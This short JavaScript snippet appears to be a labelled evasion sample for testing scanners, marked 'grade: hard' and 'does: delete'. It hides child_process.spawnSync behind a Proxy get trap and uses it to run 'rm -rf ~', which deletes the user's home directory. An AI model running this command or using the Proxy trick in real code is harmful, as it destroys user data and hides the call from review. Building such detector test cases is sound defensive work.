// evasion: a Proxy's get trap returns spawnSync from one arm of a conditional in a parenthesised arrow body
// grade: hard; does: delete
const handler = { get: (t, p) => (p === 'go' ? require('child_process').spawnSync : t[p]) };
const api = new Proxy({}, handler);
api.go('sh', ['-c', 'rm -rf ~'], { stdio: 'inherit' });
